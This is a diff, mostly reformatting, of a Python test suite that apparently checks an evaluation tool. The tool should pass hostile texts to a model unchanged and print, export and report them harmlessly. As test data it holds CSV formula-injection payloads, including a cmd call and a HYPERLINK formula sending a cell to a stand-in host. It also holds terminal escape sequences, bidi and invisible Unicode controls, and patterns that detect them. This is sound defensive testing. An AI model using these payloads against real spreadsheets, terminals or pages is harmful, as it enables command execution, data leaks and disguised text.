@@ -1,4 +1,6 @@
-"""Rows whose texts try to be more than text: equal at the model, byte for byte, and harmless where shown."""
+"""Rows whose texts try to be more than text: equal at the model, byte for byte, and harmless where
+shown.
+"""
 
 from __future__ import annotations
 
@@ -29,27 +31,33 @@ CODE = (
     "%(answer)s {answer} {0.__class__}",
 )  # fmt: skip
 FORMULAS = (
-    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1,2)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", " =1+1",
+    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1,2)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+    " =1+1",
     "\t=1+1", "\r=1+1", "x\n=1+1", "x;=1+1", "x\t@SUM(1)", '=HYPERLINK("http://x.invalid?"&A1,"press")',
     "＝1+1", "-", "+5", "-1.5e3",
 )  # fmt: skip
 TERMINAL = (
-    "\x1b[2J\x1b[H", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1bP+q544e\x1b\\",
-    "\x9b31mred", "\x9d0;title\x9c", "\x90q\x9c", "a\x08b", "over\rwritten", "bell\x07", "\x0e\x0f", "\x7f",
+    "\x1b[2J\x1b[H", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07",
+    "\x1bP+q544e\x1b\\",
+    "\x9b31mred", "\x9d0;title\x9c", "\x90q\x9c", "a\x08b", "over\rwritten", "bell\x07",
+    "\x0e\x0f", "\x7f",
     "\x1b[6n", "a\x0bb\x0cc", "[bold red]rich[/bold red]", "[link=http://x.invalid]press[/link]",
 )  # fmt: skip
 TURNED = (
     "\u202eevil\u202c", "\u2066\u2067x\u2069\u2069", "\u200e\u200f\u061c", "a\u2028b\u2029c",
-    "\u200b\ufeffx\u2060", "\U000e0041\U000e007f", "x\u00ady", "\u3164\uffa0", "\ufff9a\ufffab\ufffb",
+    "\u200b\ufeffx\u2060", "\U000e0041\U000e007f", "x\u00ady", "\u3164\uffa0",
+    "\ufff9a\ufffab\ufffb",
     "\x85next", "שלום \u202d abc",
 )  # fmt: skip
 PLAIN = (
     "line\r\nends\rof all\nkinds\n", "  spaces stay  ", "\ttabs\t", "e\u0301 is not \u00e9",
-    "\U0001f469\u200d\U0001f52c", '"quoted", ""twice"", and, commas', "\\n \\u202e \\x1b", "NA", "null",
+    "\U0001f469\u200d\U0001f52c", '"quoted", ""twice"", and, commas', "\\n \\u202e \\x1b", "NA",
+    "null",
     "true", "007", "1e5", "2026-11-16", "A,B;C|D",
 )  # fmt: skip
 TEXTS = (*INJECTIONS, *CODE, *FORMULAS, *TERMINAL, *TURNED, *PLAIN)
-#: What moves the cursor, ends a line early, hides or turns what follows; a line feed ends a line of ours.
+#: What moves the cursor, ends a line early, hides or turns what follows; a line feed ends a line of
+#: ours.
 ACTIVE = re.compile(
     "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb]"
 )
@@ -69,7 +77,7 @@ definition:
         - {role: user, content: "Q: {{ sample.question }} ({{ sample.category }})"}
   scorers:
     - {type: string_equals_mcqa, ground_truth_choice: "{{ sample.answer }}", choices: "{{ sample.choices }}"}
-"""
+"""  # noqa: E501 - the text as it is written
 POLICIES = [
     {
         "key": "gate",
@@ -171,7 +179,9 @@ def run_rows(folder: Path, form: str, call: Callable[..., Any]) -> Ran:
     with TestServer(answer) as server:
         model = f"{server.url}#model"
         words = ("--model", model, "--out", folder / "run", "--junit", folder / "gates.xml")
-        done = call("run", folder, *words, "--summary", folder / "summary.md", "--cache-policy", "no-cache")
+        done = call(
+            "run", folder, *words, "--summary", folder / "summary.md", "--cache-policy", "no-cache"
+        )
         assert done.code == 1, done.err  # its only gate cannot be met
         messages = [request.body["messages"] for request in server.asked.requests if request.body]
     return Ran(folder, done.out + done.err, messages)
@@ -188,15 +198,23 @@ def ran(tmp_path_factory: pytest.TempPathFactory, call: Callable[..., Any]) -> R
 
 def list_asked(messages: Sequence[Sequence[Mapping[str, object]]]) -> list[tuple[bytes, bytes]]:
     """Return the two texts of every request, as bytes, in an order of their own."""
-    return sorted((str(one[0]["content"]).encode(), str(one[1]["content"]).encode()) for one in messages)
+    return sorted(
+        (str(one[0]["content"]).encode(), str(one[1]["content"]).encode()) for one in messages
+    )
 
 
 @pytest.mark.parametrize("form", FORMATS)
-def test_texts_arrive_at_the_model_byte_for_byte(form: str, tmp_path: Path, call: Callable[..., Any]) -> None:
-    """From every format: alone in a message and inside one; what the run prints obeys none of them."""
+def test_texts_arrive_at_the_model_byte_for_byte(
+    form: str, tmp_path: Path, call: Callable[..., Any]
+) -> None:
+    """From every format: alone in a message and inside one.
+
+    What the run prints obeys none of them.
+    """
     found = run_rows(tmp_path, form, call)
     expected = [
-        (row["question"].encode(), f"Q: {row['question']} ({row['category']})".encode()) for row in ROWS
+        (row["question"].encode(), f"Q: {row['question']} ({row['category']})".encode())
+        for row in ROWS
     ]
     assert list_asked(found.messages) == sorted(expected)
     assert ACTIVE.findall(found.printed) == []
@@ -224,14 +242,21 @@ WORDS: dict[str, tuple[str, ...]] = {
 
 
 def list_markup(markdown: str) -> list[str]:
-    """Return where elements begin in Markdown, but for the breaks that our tables have in their cells."""
+    """Return where elements begin in Markdown, but for the breaks that our tables have in their
+    cells.
+    """
     return re.findall(r"<(?!br>)[a-z/!]", markdown, re.IGNORECASE)
 
 
 @pytest.mark.parametrize("name", WORDS)
 def test_what_is_printed_obeys_nothing(name: str, ran: Ran, call: Callable[..., Any]) -> None:
-    """Of no command: no escape, no control character, no mark that turns or hides text, on either stream."""
-    words = [word.replace("{run}", str(ran.run)).replace("{folder}", str(ran.folder)) for word in WORDS[name]]
+    """Of no command: no escape, no control character, no mark that turns or hides text, on either
+    stream.
+    """
+    words = [
+        word.replace("{run}", str(ran.run)).replace("{folder}", str(ran.folder))
+        for word in WORDS[name]
+    ]
     done = call(*words)
     assert done.code in {0, 1, 2}, done.err
     assert ACTIVE.findall(done.out + done.err) == []
@@ -259,7 +284,9 @@ def test_rows_on_a_terminal_obey_nothing(form: str, ran: Ran) -> None:
 
 
 def test_every_sample_is_explained_harmlessly(ran: Ran, call: Callable[..., Any]) -> None:
-    """Row, prompt, reasons and completion of each, for people and as JSON, where the texts are whole."""
+    """Row, prompt, reasons and completion of each, for people and as JSON, where the texts are
+    whole.
+    """
     for row in ROWS if os.environ.get("ANSWERKEY_LONG") else ROWS[::8]:
         shown = call("explain", ran.run, row["sample_id"])
         assert shown.code == 0, shown.err
@@ -287,15 +314,30 @@ def test_bad_rows_are_reported_harmlessly(tmp_path: Path, call: Callable[..., An
             assert said in done.out + done.err
 
 
-def test_errors_of_an_endpoint_are_reported_harmlessly(tmp_path: Path, call: Callable[..., Any]) -> None:
+def test_errors_of_an_endpoint_are_reported_harmlessly(
+    tmp_path: Path, call: Callable[..., Any]
+) -> None:
     """What an endpoint says of its trouble is a text of a stranger, too."""
     write_jsonl(tmp_path / "rows.jsonl")
     (tmp_path / "task.yaml").write_text(TASK, encoding="utf-8")
     said = json.dumps({"error": {"message": "".join(TERMINAL + TURNED)}}).encode()
     with TestServer(Reply(status=400, body=said)) as server:
-        words = ("--dataset", tmp_path / "rows.jsonl", "--model", f"{server.url}#model", "--num-samples", 9)
+        words = (
+            "--dataset",
+            tmp_path / "rows.jsonl",
+            "--model",
+            f"{server.url}#model",
+            "--num-samples",
+            9,
+        )
         done = call(
-            "run", tmp_path / "task.yaml", *words, "--out", tmp_path / "run", "--cache-policy", "no-cache"
+            "run",
+            tmp_path / "task.yaml",
+            *words,
+            "--out",
+            tmp_path / "run",
+            "--cache-policy",
+            "no-cache",
         )
     assert done.code == 3
     assert "HTTP 400" in done.out + done.err
@@ -317,19 +359,31 @@ def test_no_cell_of_csv_is_a_formula(ran: Ran, call: Callable[..., Any]) -> None
     heading, *lines = read_cells((ran.folder / "rows.csv").read_bytes().decode())
     assert [cell for line in (heading, *lines) for cell in line if FORMULA.search(cell)] == []
     at = heading.index("question")
-    assert [one[at].replace("'", "") for one in lines] == [row["question"].replace("'", "") for row in ROWS]
+    assert [one[at].replace("'", "") for one in lines] == [
+        row["question"].replace("'", "") for row in ROWS
+    ]
 
 
-def test_raw_csv_jsonl_and_parquet_have_the_texts_byte_for_byte(ran: Ran, call: Callable[..., Any]) -> None:
+def test_raw_csv_jsonl_and_parquet_have_the_texts_byte_for_byte(
+    ran: Ran, call: Callable[..., Any]
+) -> None:
     """Files for programs hold questions and completions as they are."""
     said = [f"A\n{TEXTS[(number + 5) % len(TEXTS)]}" for number in range(len(ROWS))]
     asked = [row["question"] for row in ROWS]
     for form, more in {"csv": ["--raw"], "jsonl": [], "parquet": []}.items():
-        assert call("export", ran.run, "--to", form, "-o", ran.folder / f"out.{form}", *more).code == 0
+        assert (
+            call("export", ran.run, "--to", form, "-o", ran.folder / f"out.{form}", *more).code == 0
+        )
     heading, *lines = read_cells((ran.folder / "out.csv").read_bytes().decode())
     for name, texts in {"question": asked, "completion": said}.items():
-        assert [line[heading.index(name)].encode() for line in lines] == [text.encode() for text in texts]
-    rows = [json.loads(line) for line in (ran.folder / "out.jsonl").read_bytes().decode().split("\n") if line]
+        assert [line[heading.index(name)].encode() for line in lines] == [
+            text.encode() for text in texts
+        ]
+    rows = [
+        json.loads(line)
+        for line in (ran.folder / "out.jsonl").read_bytes().decode().split("\n")
+        if line
+    ]
     assert [row["sample"]["question"].encode() for row in rows] == [text.encode() for text in asked]
     assert [row["completion"].encode() for row in rows] == [text.encode() for text in said]
     table = pl.read_parquet(ran.folder / "out.parquet")
@@ -349,12 +403,18 @@ class Page(HTMLParser):
         self.elements.append(tag)
         for name, value in attrs:
             is_address = name in {"src", "href", "action", "srcdoc", "data", "style", "formaction"}
-            if name.startswith("on") or (is_address and not (value or "").startswith(("#", "data:"))):
+            if name.startswith("on") or (
+                is_address and not (value or "").startswith(("#", "data:"))
+            ):
                 self.active.append(f"{tag} {name}={value}")
 
 
-def test_the_report_holds_no_element_but_ours(ran: Ran, tmp_path: Path, call: Callable[..., Any]) -> None:
-    """The page of hostile rows has the elements of the page of a harmless run, in the same order."""
+def test_the_report_holds_no_element_but_ours(
+    ran: Ran, tmp_path: Path, call: Callable[..., Any]
+) -> None:
+    """The page of hostile rows has the elements of the page of a harmless run, in the same
+    order.
+    """
     assert call("report", ran.run, "--out", ran.folder / "hostile.html").code == 0
     project = tmp_path / "project"
     assert call("init", project).code == 0
@@ -370,7 +430,9 @@ def test_the_report_holds_no_element_but_ours(ran: Ran, tmp_path: Path, call: Ca
     text = pages[0].read_text(encoding="utf-8")
     assert [one for one in INJECTIONS if "<" in one and one in text] == []
     # The blocks of JSON are data, which the page makes visible when it shows it.
-    assert set(ACTIVE.findall(re.sub(r'(?s)<script type="application/json".*?</script>', "", text))) <= {"\t"}
+    assert set(
+        ACTIVE.findall(re.sub(r'(?s)<script type="application/json".*?</script>', "", text))
+    ) <= {"\t"}
 
 
 def parse_page(path: Path) -> Page:
@@ -389,7 +451,10 @@ def iterate_texts(element: ET.Element) -> Iterator[str]:
 
 
 def test_junit_and_the_summary_of_a_job_hold_texts_as_texts(ran: Ran) -> None:
-    """JUnit is well-formed XML with elements of its own alone; Markdown has no markup of a stranger."""
+    """JUnit is well-formed XML with elements of its own alone.
+
+    Markdown has no markup of a stranger.
+    """
     root = ET.fromstring((ran.folder / "gates.xml").read_text(encoding="utf-8"))  # noqa: S314 - of our own making
     assert {one.tag for one in root.iter()} == {
         "testsuites", "testsuite", "properties", "property", "testcase", "failure",
